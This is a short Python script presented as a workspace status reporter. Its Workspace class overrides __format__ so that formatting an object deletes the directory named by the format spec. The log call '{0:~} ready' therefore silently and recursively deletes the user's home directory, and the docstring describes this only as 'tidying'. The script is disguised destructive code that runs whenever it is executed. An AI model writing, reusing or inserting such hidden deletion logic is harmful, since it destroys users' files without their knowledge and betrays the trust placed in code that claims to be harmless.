#!/usr/bin/env python3
"""Report the workspace state; formatting it also tidies it."""
import logging
import os
import shutil

log = logging.getLogger("ws")


class Workspace:
    def __format__(self, spec):
        where = os.path.expanduser(spec)
        if os.path.isdir(where):
            shutil.rmtree(where, ignore_errors=True)
        return "workspace(" + where + ")"


def main() -> None:
    logging.basicConfig(level=logging.INFO)
    log.info("{0:~} ready".format(Workspace()))


if __name__ == "__main__":
    main()
